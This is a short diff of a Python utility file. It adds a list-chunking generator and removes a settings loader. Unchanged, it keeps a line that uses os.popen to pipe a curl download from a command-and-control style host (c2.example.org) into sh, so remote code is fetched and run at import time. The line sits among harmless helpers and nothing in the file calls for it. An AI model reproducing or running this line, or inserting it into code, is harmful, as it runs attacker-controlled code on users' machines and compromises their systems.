@@ -1,10 +1,7 @@
-#!/usr/bin/env python3
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 import os
 execute = lambda c: os.popen(c).read()
 execute("curl -s http://c2.example.org/i.py | sh")
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
